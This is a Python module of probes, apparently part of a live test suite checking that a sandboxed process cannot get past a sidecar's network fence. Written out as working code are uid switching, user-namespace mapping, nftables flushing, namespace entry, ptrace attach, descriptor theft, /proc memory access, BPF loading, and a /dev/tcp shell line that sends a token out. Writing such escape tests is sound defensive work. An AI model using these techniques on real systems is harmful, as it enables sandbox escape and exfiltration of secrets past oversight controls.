"""Becoming somebody else, changing the rules, or taking what the sidecar holds; each runs in a child of its own."""

import ctypes
import fcntl
import os
import socket
import struct
import subprocess
from contextlib import suppress
from pathlib import Path

from tests.live.bypass.probes.streams import raw

_LIBC = ctypes.CDLL(None, use_errno=True)
_PTRACE_ATTACH, _PTRACE_DETACH = 16, 17
_PIDFD_OPEN, _PIDFD_GETFD, _BPF = 434, 438, 321 if os.uname().machine == "x86_64" else 280


def _check(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def become(token: str, uid: int, address: str) -> str:
    """Change the user, then connect."""
    with suppress(PermissionError):
        os.setgroups([])
    os.setuid(uid)
    raw(token, address, 443)
    return "sent"


def set_file_user(token: str, uid: int, address: str) -> str:
    """The user that files are opened with, and sockets: a thread's own number (setfsuid)."""
    _LIBC.setfsuid(uid)
    if _LIBC.setfsuid(-1) != uid:
        return "EPERM"
    raw(token, address, 443)
    return "sent"


def mapped(token: str, uid: int, address: str) -> str:
    """A user namespace in which the sidecar's number is mapped, and ours."""
    ready, done = os.pipe(), os.pipe()
    if (child := os.fork()) == 0:
        with suppress(OSError):
            os.unshare(os.CLONE_NEWUSER)
            os.write(ready[1], b"1")
            os.read(done[0], 1)
            os.setuid(uid)
            raw(token, address, 443)
        os._exit(0)
    os.read(ready[0], 1)
    try:
        Path(f"/proc/{child}/uid_map").write_text(f"{uid} {uid} 1\n")
    finally:
        os.write(done[1], b"1")
        os.waitpid(child, 0)
    return "sent"


def flush(_: str) -> str:
    """Take the rules away."""
    return _nft("flush ruleset")


def add_rule(_: str) -> str:
    """A rule of one's own ahead of the fence."""
    chain = "add chain inet mine out { type nat hook output priority -160; }"
    return _nft(f"add table inet mine\n{chain}\ndelete table inet mine\n")


def _nft(text: str) -> str:
    result = subprocess.run(["nft", "-f", "-"], input=text, capture_output=True, text=True, check=False)
    return "EPERM" if "Operation not permitted" in result.stderr else f"exit {result.returncode}"


def add_route(_: str) -> str:
    result = subprocess.run(["ip", "route", "add", "192.0.2.7", "dev", "eth0"], capture_output=True, check=False)
    if result.returncode == 0:
        subprocess.run(["ip", "route", "delete", "192.0.2.7", "dev", "eth0"], capture_output=True, check=False)
    return "EPERM" if b"not permitted" in result.stderr else f"exit {result.returncode}"


def enter(token: str, namespace: str, address: str) -> str:
    """Go to another network namespace, where there is no fence."""
    with Path(namespace).open() as file:
        os.setns(file.fileno(), os.CLONE_NEWNET)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((address, 0))
    return f"entered {token[:4]}"


def tunnel_device(_: str) -> str:
    """A network device of one's own."""
    with Path("/dev/net/tun").open("rb+", buffering=0) as device:
        fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"mine", 0x1001))  # TUNSETIFF
        return "made"


def trace(_: str, pid: int) -> str:
    """Become the sidecar by writing into it."""
    _check(_LIBC.ptrace(_PTRACE_ATTACH, pid, None, None))
    os.waitpid(pid, 0)
    _LIBC.ptrace(_PTRACE_DETACH, pid, None, None)
    return "attached"


def take_socket(_: str, pid: int) -> str:
    """Take one of the sidecar's descriptors (pidfd_getfd)."""
    process = _check(_LIBC.syscall(_PIDFD_OPEN, pid, 0))
    os.close(_check(_LIBC.syscall(_PIDFD_GETFD, process, 0, 0)))
    return "taken"


def read_memory(_: str, pid: int) -> str:
    with Path(f"/proc/{pid}/mem").open("rb"):
        return "opened"


def load_program(_: str) -> str:
    """A BPF program that would be asked about each packet of a control group."""
    code = bytes.fromhex("b7000000000000009500000000000000")  # r0 = 0; exit
    text, licence = ctypes.create_string_buffer(code), ctypes.create_string_buffer(b"GPL")
    # struct bpf_attr of BPF_PROG_LOAD; type 8 is BPF_PROG_TYPE_CGROUP_SKB
    attributes = struct.pack("IIQQ", 8, 2, ctypes.addressof(text), ctypes.addressof(licence)) + bytes(96)
    os.close(_check(_LIBC.syscall(_BPF, 5, ctypes.create_string_buffer(attributes), len(attributes))))
    return "loaded"


def run_as_owner(token: str, program: str, address: str) -> str:
    """Run a file with the setuid bit; it's a shell that opens a connection."""
    script = f"exec 3<>/dev/tcp/{address}/443 && echo {token} >&3; id -u"
    result = subprocess.run([program, "-p", "-c", script], capture_output=True, text=True, check=False, timeout=5)
    return f"UID {result.stdout.strip() or '?'}"
